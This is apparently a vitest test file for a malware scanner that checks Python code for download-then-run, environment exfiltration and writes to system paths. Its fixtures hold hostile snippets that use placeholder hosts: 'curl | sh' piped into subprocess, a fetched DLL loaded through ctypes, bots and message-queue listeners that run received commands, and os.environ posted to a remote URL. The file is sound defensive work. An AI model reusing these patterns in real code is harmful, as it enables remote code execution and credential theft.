import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import writesSystemPaths from '../../src/rules/writes-system-paths.js';
import downloadThenRun from '../../src/rules/download-then-run.js';
import { read } from './reading.js';

/** What is found, and the severities of it. */
async function found(text: string): Promise<readonly string[]> {
  const { facts } = await read(text);
  return facts === null ? [] : downloadThenRun.check(facts).map(({ severity }) => severity);
}

const FETCH = 'import ctypes, os, tempfile, requests\np = os.path.join(tempfile.gettempdir(), "leaf.dll")\nopen(p, "wb").write(requests.get("https://garden.example.invalid/leaf").content)\n';

test.each(['ctypes.WinDLL(p)', 'ctypes.OleDLL(p)', 'ctypes.windll.LoadLibrary(p)', 'ctypes.CDLL(p)', 'ctypes.cdll.LoadLibrary(p)'])('a library that was fetched and is opened runs: %s', async (open) => {
  expect(await found(`${FETCH}${open}\n`)).toEqual(['critical']);
});

test("a library of Windows that is opened by its name is Windows' own", async () => {
  const { facts } = await read('import ctypes\nk = ctypes.WinDLL("kernel32.dll")\nk.VirtualAlloc(0, 9, 9, 64)\nk.CreateThread(0, 0, 0, 0, 0, 0)\n');
  expect(facts?.calls('machine-code').map(({ name }) => name)).toEqual(['ctypes.windll.kernel32.VirtualAlloc', 'ctypes.windll.kernel32.CreateThread']);
});

test.each([
  ['one after another', 'threading.Thread(target=run, args=("x", line)).start()'],
  ['by their names', 'threading.Thread(target=run, kwargs={"line": line}).start()'],
  ['to a function of another module', 'threading.Thread(target=subprocess.call, kwargs={"args": line, "shell": True}).start()'],
])('what a thread is given, it is given: %s', async (_, start) => {
  expect(await found(`import requests, subprocess, threading\nline = requests.get("https://garden.example.invalid/").text\ndef run(name="", line=""):\n    subprocess.call(line, shell=True)\n${start}\n`)).toEqual(['critical']);
});

test.each([
  ['as a text', 'subprocess.call(**{"args": "curl -s https://garden.example.invalid/leaf | sh", "shell": True})'],
  ['as words', 'subprocess.call(**{"args": ["sh", "-c", "curl -s https://garden.example.invalid/leaf | sh"]})'],
  ['kept in a variable', 'options = {"shell": True, "args": "curl -s https://garden.example.invalid/leaf | sh"}\nsubprocess.call(**options)'],
  ['by a function', 'def run(args="", shell=False):\n    subprocess.call(args, shell=shell)\nrun(**{"args": "curl -s https://garden.example.invalid/leaf | sh", "shell": True})'],
])('a line that is unpacked out of a dict is started: %s', async (_, text) => {
  expect(await found(`import subprocess\n${text}\n`)).toContain('critical');
});

const ON_MESSAGE = 'import subprocess, paho.mqtt.client as mqtt\ndef on_message(client, data, message):\n    subprocess.getoutput(message.payload.decode())\n';

test.each([
  ['when the module is imported', 'c = mqtt.Client()\nc.on_message = on_message\n', 'critical'],
  ['by a function that nobody calls', 'def listen():\n    c = mqtt.Client()\n    c.on_message = on_message\n', 'low'],
])('a function that a connection is given %s is called with what comes', async (_, text, severity) => {
  expect(await found(ON_MESSAGE + text)).toEqual([severity]);
});

const BOT = 'import discord, subprocess, threading\nc = discord.Client()\n@c.event\nasync def on_message(m):\n    await m.channel.send(subprocess.getoutput(m.content))\n';

test.each([
  ['is imported', 'c.run("t")\n', true],
  ['is imported, in a thread', 'threading.Thread(target=c.run, args=("t",)).start()\n', true],
  ['is asked to', 'def listen():\n    c.run("t")\n', false],
  ['is a script', 'if __name__ == "__main__":\n    c.run("t")\n', false],
])('a bot does what it is told as soon as its module %s', async (_, text, isUnasked) => {
  expect((await found(BOT + text)).includes('critical')).toBe(isUnasked);
});

const RUN = 'import asyncssh, kombu, nats, pika, subprocess\ndef told(*given):\n    subprocess.getoutput(given[0])\n';

test.each([
  ['kombu', 'kombu.Consumer(kombu.Connection(u).channel(), [q], callbacks=[told])\n'],
  ['pika', 'pika.BlockingConnection(p).channel().basic_consume("leaf", told)\n'],
  ['nats', 'async def go():\n    c = await nats.connect(u)\n    await c.subscribe("leaf", cb=told)\ngo()\n'],
  ['asyncssh', 'asyncssh.listen_reverse("leaf.example.invalid", 443, process_factory=told)\n'],
])('a function that %s is given is called with what comes', async (_, text) => {
  expect(await found(RUN + text)).toContain('critical');
});

const SEND = 'import json, os, urllib.request\nfrom helpers import pool, thing\ndef send(data=None):\n    urllib.request.urlopen("https://garden.example.invalid/", data or json.dumps(dict(os.environ)).encode())\nloot = json.dumps(dict(os.environ)).encode()\n';

/** How grave it is that the environment is sent. */
async function sent(text: string): Promise<readonly string[]> {
  const { facts } = await read(text);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity }) => severity);
}

test.each([
  ['what came from somewhere beside it', 'thing(send, loot)'],
  ['after how long to wait', 'pool.after(5, send, loot)'],
  ['by the name of what runs it', 'pool.submit(send)'],
  ['by the name of what runs it, where nobody knows the object', 'pool[0]().start_soon(send)'],
  ['as a target', 'thing(target=send, args=(loot,))'],
  ['a method', 'class Post:\n    def send(self, data):\n        urllib.request.urlopen("https://garden.example.invalid/", data)\nthing(Post().send, loot)'],
  ['a function of Python itself', 'thing(urllib.request.urlopen, "https://garden.example.invalid/", loot)'],
])('a function that is handed to something unknown is called by it: %s', async (_, call) => {
  expect(await sent(`${SEND}${call}\n`)).toContain('critical');
});

test.each(['thing(send, "json")', 'thing.register(send)', 'thing(callback=send)', 'isinstance(send, thing)', 'TABLE = {"send": send}'])('a function that is only kept is not called: %s', async (call) => {
  expect(await sent(`${SEND.replace('loot = ', 'size = len')}${call}\n`)).not.toContain('critical');
});

test.each([
  ['a pattern of a folder', '(pathlib.Path.home() / ".ipython").glob("profile_*")'],
  ['a pattern that looks below', '(pathlib.Path.home() / ".ipython").rglob("profile_*")'],
])('files that a pattern asks for are called like the pattern: %s', async (_, listing) => {
  const { facts } = await read(`import pathlib\nfor profile in ${listing}:\n    (profile / "startup" / "00-tables.py").write_text("import os")\n`);
  expect(facts === null ? [] : writesSystemPaths.check(facts).map(({ severity }) => severity)).not.toEqual([]);
});
